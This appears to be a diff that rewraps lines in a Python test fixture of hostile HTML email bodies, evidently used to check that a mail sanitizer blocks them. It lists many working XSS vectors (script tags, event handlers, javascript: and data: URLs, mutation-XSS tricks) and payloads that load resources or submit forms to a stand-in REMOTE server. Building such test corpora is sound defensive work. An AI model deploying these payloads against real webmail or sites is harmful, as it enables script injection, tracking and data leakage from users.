@@ -1,7 +1,8 @@
 """
 Mails that want out: each would run a script, load something, or lead somewhere, if it could.
 
-``REMOTE`` stands for a server that is none of ours; who gets through to it, or to ``alert`` or the console, has got out.
+``REMOTE`` stands for a server that is none of ours; who gets through to it, or to ``alert`` or the
+console, has got out.
 """
 
 from __future__ import annotations
@@ -20,23 +21,27 @@ SCRIPTS = [
     f"<svg><script>{CANARY}</script></svg>",
     f'<svg><animate onbegin="{CANARY}" attributeName=x dur=1s></svg>',
     f'<svg><a href="javascript:{CANARY}"><text y=20>x</text></a></svg>',
-    f'<math><mtext><table><mglyph><style><img src=x onerror="{CANARY}"></style></mglyph></table></mtext></math>',
+    "<math><mtext><table><mglyph><style><img src=x "
+    f'onerror="{CANARY}"></style></mglyph></table></mtext></math>',
     f'<iframe srcdoc="&lt;script&gt;{CANARY}&lt;/script&gt;"></iframe>',
     f'<iframe src="javascript:{CANARY}"></iframe>',
     f'<iframe src="data:text/html,<script>{CANARY}</script>"></iframe>',
     f'<object data="data:text/html,<script>{CANARY}</script>"></object>',
-    f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CANARY}'/>\">",
+    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
+    f"onload='{CANARY}'/>\">",
     f'<details open ontoggle="{CANARY}"><summary>x</summary></details>',
     f'<input autofocus onfocus="{CANARY}">',
     f'<video><source onerror="{CANARY}"></video>',
     f'<marquee onstart="{CANARY}">x</marquee>',
-    f'<div style="animation:x 1s" onanimationstart="{CANARY}"></div><style>@keyframes x{{}}</style>',
+    f'<div style="animation:x 1s" onanimationstart="{CANARY}"></div><style>@keyframes '
+    f"x{{}}</style>",
     f'<a id=bait href="javascript:{CANARY}">x</a>',
     f'<meta http-equiv=refresh content="0;url=javascript:{CANARY}">',
     f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{CANARY}</script>">',
     f'<form action="javascript:{CANARY}"><button id=bait>x</button></form>',
     f'<isindex action="javascript:{CANARY}" type=image>',
-    f'<style>x{{behavior:url(REMOTE/x.htc);-moz-binding:url(REMOTE/x.xml)}}</style><x onclick="{CANARY}">x</x>',
+    f"<style>x{{behavior:url(REMOTE/x.htc);-moz-binding:url(REMOTE/x.xml)}}</style><x "
+    f'onclick="{CANARY}">x</x>',
     f'<noscript><p title="</noscript><img src=x onerror={CANARY}>"></noscript>',
     f'<!--><img src=x onerror="{CANARY}">-->',
     f"<template shadowrootmode=open><script>{CANARY}</script></template>",
@@ -61,7 +66,8 @@ LOADS = [
     "<style>@font-face{font-family:f;src:url(REMOTE/font.woff)}*{font-family:f}</style>x",
     "<style>li{list-style:url(REMOTE/list.png)}</style><li>x",
     "<style>p::before{content:url(REMOTE/content.png)}</style><p>x",
-    "<style>p{cursor:url(REMOTE/cursor.cur),auto;border-image:url(REMOTE/border.png) 1;mask:url(REMOTE/mask.svg)}</style><p>x",
+    "<style>p{cursor:url(REMOTE/cursor.cur),auto;border-image:url(REMOTE/border.png) "
+    "1;mask:url(REMOTE/mask.svg)}</style><p>x",
     "<style>p{filter:url(REMOTE/filter.svg#f);shape-outside:url(REMOTE/shape.png);float:left}</style><p>x",
     "<style>p{background:image-set('REMOTE/set.png' 1x)}</style><p>x",
     "<link rel=stylesheet href='REMOTE/style.css'>",
@@ -89,7 +95,8 @@ LOADS = [
     "<input type=image src='REMOTE/input.png'>",
     "<svg><image href='REMOTE/svg.png'></image></svg>",
     "<svg><use href='REMOTE/use.svg#x'></use></svg>",
-    "<svg><filter id=f><feImage href='REMOTE/fe.png'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
+    "<svg><filter id=f><feImage href='REMOTE/fe.png'/></filter><rect width=9 height=9 "
+    "filter='url(#f)'/></svg>",
     "<svg><style>@import 'REMOTE/svg.css';</style></svg>",
     "<meta http-equiv=refresh content='0;url=REMOTE/refresh'>",
     "<meta http-equiv=refresh content='0;url=/v1.0/messages/sendTemplateHTTPGet?to=a@example.com'>",
@@ -99,11 +106,14 @@ LOADS = [
     "<a id=bait target=_self href='REMOTE/self'>x</a>",
     "<a id=bait target=_top href='REMOTE/top'>x</a>",
     "<a id=bait target=_blank href='REMOTE/blank' download>x</a>",
-    "<map name=m><area id=bait shape=default href='REMOTE/area'></map><img usemap=#m width=99 height=99 src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>",
+    "<map name=m><area id=bait shape=default href='REMOTE/area'></map><img usemap=#m width=99 "
+    "height=99 src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>",
     "<svg><a id=bait href='REMOTE/svg'><rect width=99 height=99 /></a></svg>",
     "<svg><a id=bait xlink:href='REMOTE/svg' target=_top><rect width=99 height=99 /></a></svg>",
-    "<svg><a id=bait href='REMOTE/svg'><rect width=99 height=99 /><set attributeName=target to=_self /></a></svg>",
-    "<svg><a id=bait><set attributeName=href to='REMOTE/svg'/><animate attributeName='&#116;arget' values=_self dur=9s /><text y=20>x</text></a></svg>",
+    "<svg><a id=bait href='REMOTE/svg'><rect width=99 height=99 /><set attributeName=target "
+    "to=_self /></a></svg>",
+    "<svg><a id=bait><set attributeName=href to='REMOTE/svg'/><animate attributeName='&#116;arget' "
+    "values=_self dur=9s /><text y=20>x</text></a></svg>",
     "<form action='REMOTE/form' method=post><button id=bait>x</button></form>",
     "<form action='/_sandbox/reset' method=post><button id=bait>x</button></form>",
     "<button id=bait formaction='REMOTE/formaction' form=f>x</button><form id=f></form>",
